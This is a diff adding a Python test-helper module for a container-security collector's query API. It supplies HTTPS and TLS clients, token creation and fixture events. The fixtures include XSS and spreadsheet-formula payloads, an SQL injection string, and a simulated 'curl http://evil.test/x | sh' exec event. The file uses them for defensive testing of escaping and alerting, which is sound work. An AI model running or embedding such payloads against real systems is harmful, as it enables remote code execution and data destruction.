@@ -1,0 +1,229 @@
+"""Helpers for the query API tests: an HTTPS client that trusts the test CA,
+token creation through the real `vigil-collector token` subcommand, raw TLS
+sockets for the limit tests, and known data sent through the real ingest
+path (a RawAgent speaking the wire protocol).
+
+Nothing here knows about pytest; test_api*.py make fixtures of it.
+"""
+
+import http.client
+import json
+import socket
+import ssl
+import subprocess
+import time
+import urllib.parse
+
+import vigiltest as vt
+
+XSS_NAME = "<script>alert(1)</script>"
+XSS_LABEL = "<img src=x onerror=alert(1)>"
+FORMULA_NAME = "=HYPERLINK(\"http://x\",\"y\")"
+INJECTION = "'; DROP TABLE events; --"
+IMAGE = "registry.test/web:1.0"
+
+
+def https_context(pki, cert=None, key=None):
+    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+    ctx.load_verify_locations(pki.ca_crt)
+    ctx.check_hostname = True
+    if hasattr(ssl, "OP_IGNORE_UNEXPECTED_EOF"):
+        ctx.options |= ssl.OP_IGNORE_UNEXPECTED_EOF
+    if cert:
+        ctx.load_cert_chain(cert, key)
+    return ctx
+
+
+class Response:
+    def __init__(self, status, headers, body):
+        self.status = status
+        self.headers = headers
+        self.body = body
+
+    def json(self):
+        return json.loads(self.body)
+
+    def header(self, name):
+        return self.headers.get(name.lower())
+
+    def __repr__(self):
+        return "<%d %r>" % (self.status, self.body[:300])
+
+
+class Api:
+    """GET requests to the collector's HTTPS port, one connection each
+    unless keep=True."""
+
+    def __init__(self, port, pki, token=None, cert=None, key=None, timeout=20.0):
+        self.port = port
+        self.token = token
+        self.ctx = https_context(pki, cert, key)
+        self.timeout = timeout
+
+    def get(self, path, params=None, token=None, headers=None):
+        if params:
+            path += "?" + urllib.parse.urlencode(params)
+        h = {}
+        tok = token if token is not None else self.token
+        if tok:
+            h["Authorization"] = "Bearer " + tok
+        h.update(headers or {})
+        c = http.client.HTTPSConnection("localhost", self.port, context=self.ctx,
+                                        timeout=self.timeout)
+        try:
+            c.request("GET", path, headers=h)
+            r = c.getresponse()
+            body = r.read()
+            return Response(r.status, {k.lower(): v for k, v in r.getheaders()}, body)
+        finally:
+            c.close()
+
+    def ok(self, path, params=None, **kw):
+        r = self.get(path, params, **kw)
+        assert r.status == 200, "%s %s -> %r" % (path, params, r)
+        return r.json() if r.header("content-type") == "application/json" else r
+
+
+def create_token(collector_bin, db, name, role, expires=None):
+    """Run `vigil-collector token create` and return the printed token."""
+    args = [collector_bin, "token", "create", "--name", name, "--role", role,
+            "--db", db.conninfo]
+    if expires:
+        args += ["--expires", expires]
+    r = subprocess.run(args, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
+                       timeout=60, env=vt.sanitizer_env())
+    assert r.returncode == 0, "token create failed: %s" % r.stderr
+    assert not vt.sanitizer_reports(r.stderr), r.stderr
+    tok = r.stdout.strip()
+    assert tok.startswith("vgl_") and len(tok) == 68, tok
+    return tok
+
+
+def token_cmd(collector_bin, db, *args):
+    r = subprocess.run([collector_bin, "token"] + list(args) + ["--db", db.conninfo],
+                       stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
+                       timeout=60, env=vt.sanitizer_env())
+    assert not vt.sanitizer_reports(r.stderr), r.stderr
+    return r
+
+
+def tls_socket(port, pki, timeout=10.0):
+    raw = socket.create_connection(("127.0.0.1", port), timeout=timeout)
+    return https_context(pki).wrap_socket(raw, server_hostname="localhost")
+
+
+def read_all(sock, timeout):
+    """Bytes until the peer closes; raise TimeoutError after TIMEOUT s."""
+    deadline = time.monotonic() + timeout
+    out = b""
+    while True:
+        left = deadline - time.monotonic()
+        if left <= 0:
+            raise TimeoutError("connection still open")
+        sock.settimeout(left)
+        try:
+            d = sock.recv(65536)
+        except (ssl.SSLEOFError, ConnectionResetError, BrokenPipeError):
+            return out
+        except socket.timeout:
+            raise TimeoutError("connection still open")
+        if not d:
+            return out
+        out += d
+
+
+# --- known data, through the real ingest path ---------------------------------------
+
+def finding_event(cid, rule, summary, severity, ts=None):
+    E, _ = vt.pb()
+    e = E.Event()
+    e.time_ns = ts or vt.now_ns()
+    e.kind = E.EVENT_KIND_FINDING
+    e.severity = severity
+    if cid:
+        e.container_id = cid
+    e.finding.rule = rule
+    e.finding.summary = summary
+    return e
+
+
+def status_event(sources, ts=None):
+    """An AgentStatus event; SOURCES is [(name, ok, error)]."""
+    E, _ = vt.pb()
+    e = E.Event()
+    e.time_ns = ts or vt.now_ns()
+    e.kind = E.EVENT_KIND_AGENT_STATUS
+    e.severity = E.SEVERITY_INFO
+    st = e.agent_status
+    st.spool_bytes = 1024
+    st.spool_capacity = 1 << 20
+    for name, ok, err in sources:
+        x = st.sources.add()
+        x.name, x.ok, x.error = name, ok, err
+    return e
+
+
+def started(cid, name, image=IMAGE, privileged=False, labels=None, ts=None):
+    e = vt.container_started_event(cid, name, privileged=privileged, image=image, ts=ts)
+    if labels:
+        c = e.container_started.container
+        for k, v in labels.items():
+            lab = c.labels.add()
+            lab.key, lab.value = k, v
+    return e
+
+
+class Fleet:
+    """What the API tests expect to find, after load()."""
+
+    C1 = "a1" * 32          # web-1 on node-1: privileged, runs the shell
+    C2 = "b2" * 32          # web-2 on node-2: same image
+    C3 = "c3" * 32          # the XSS container on node-2
+    C4 = "d4" * 32          # a formula-named container on node-2, other image
+    NODE1 = "api-node-1"
+    NODE2 = "api-node-2"
+
+    def __init__(self):
+        self.exec_c1 = []   # (argv) sent for C1, oldest first
+        self.old_ts_ns = None
+
+    def load(self, port, pki):
+        E, _ = vt.pb()
+        now = vt.now_ns()
+        self.t0 = now / 1e9
+        self.old_ts_ns = now - 3 * 86400 * 10**9
+        cert, key = pki.agent(self.NODE1)
+        a1 = vt.RawAgent(port, vt.client_context(pki, cert, key)).connect()
+        a1.hello()
+        evs = [started(self.C1, "web-1", privileged=True, labels={"tier": "front"},
+                       ts=now - 600 * 10**9)]
+        for i in range(5):
+            argv = ["/bin/sh", "-c", "step %d" % i]
+            self.exec_c1.append(argv)
+            evs.append(vt.exec_event(3000 + i, argv, exe="/bin/sh", container_id=self.C1,
+                                     ts=now - (500 - i) * 10**9, severity=E.SEVERITY_INFO))
+        evs.append(vt.exec_event(4000, ["curl", "http://evil.test/x", "|", "sh"],
+                                 exe="/usr/bin/curl", container_id=self.C1,
+                                 ts=now - 100 * 10**9, severity=E.SEVERITY_HIGH))
+        evs.append(vt.exec_event(4001, ["/bin/echo", INJECTION], exe="/bin/echo",
+                                 container_id=self.C1, ts=now - 90 * 10**9))
+        evs.append(finding_event(self.C1, "shell-in-container", "a shell ran in web-1",
+                                 E.SEVERITY_CRITICAL, ts=now - 80 * 10**9))
+        evs.append(vt.exec_event(4002, ["/usr/bin/old-tool"], exe="/usr/bin/old-tool",
+                                 container_id=self.C1, ts=self.old_ts_ns))
+        evs.append(status_event([("procfs", True, ""), ("docker-api", False, "no socket")],
+                                ts=now - 70 * 10**9))
+        a1.batch(1, evs)
+        cert, key = pki.agent(self.NODE2)
+        with vt.RawAgent(port, vt.client_context(pki, cert, key)).connect() as a2:
+            a2.hello()
+            a2.batch(1, [
+                started(self.C2, "web-2", ts=now - 700 * 10**9),
+                started(self.C3, XSS_NAME, image="registry.test/xss:1",
+                        labels={"note": XSS_LABEL, XSS_LABEL: "k"}, ts=now - 650 * 10**9),
+                started(self.C4, FORMULA_NAME, image="registry.test/other:2",
+                        ts=now - 640 * 10**9),
+                vt.exec_event(5000, ["/bin/ls", "-l"], exe="/bin/ls", container_id=self.C2,
+                              ts=now - 60 * 10**9),
+            ])
+        return a1  # node-1 stays connected (online)
